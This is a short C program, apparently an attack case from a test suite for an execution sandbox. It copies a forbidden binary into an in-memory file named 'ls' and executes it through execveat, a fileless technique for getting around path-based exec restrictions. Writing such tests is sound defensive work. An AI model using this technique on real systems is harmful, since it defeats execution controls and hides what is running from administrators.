/* A copy in memory. */
#include "../attack.h"
int main(void)
{
	extern char **environ;
	char *words[] = { "x", NULL };
	int fd = memfd_create("ls", MFD_CLOEXEC);
	if (sendfile(fd, open(FORBIDDEN, O_RDONLY), NULL, 1 << 26) < 0)
		return 1;
	return syscall(SYS_execveat, fd, "", words, environ, AT_EMPTY_PATH), 1;
}
